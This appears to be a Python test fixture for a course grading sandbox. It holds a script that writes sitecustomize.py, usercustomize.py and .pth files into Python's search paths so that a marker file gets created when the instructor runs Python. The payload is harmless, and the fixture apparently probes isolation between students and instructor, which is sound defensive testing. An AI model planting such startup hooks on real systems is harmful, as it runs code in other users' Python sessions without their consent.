"""Writes sitecustomize.py, usercustomize.py and .pth files where Python looks for them."""

FIRST = """
import pathlib, site, sys
evil = "import pathlib; pathlib.Path('@COURSE@/run-by-the-instructor').touch()\\n"
for folder in (site.getusersitepackages(), "@HOME@/.local/lib/python3.11/site-packages", ".", "@COURSE@",
               *[p for p in sys.path if p and "@ROOT@" not in p and "/tmp/" in p][:3]):
    for name in ("sitecustomize.py", "usercustomize.py", "evil-@STUDENT@.pth"):
        try:
            path = pathlib.Path(folder, name)
            if not path.exists():
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(evil)
                print("written", path)
        except OSError as error:
            print(error)
"""
STOCK = "it would write into the Python that everything here shares"
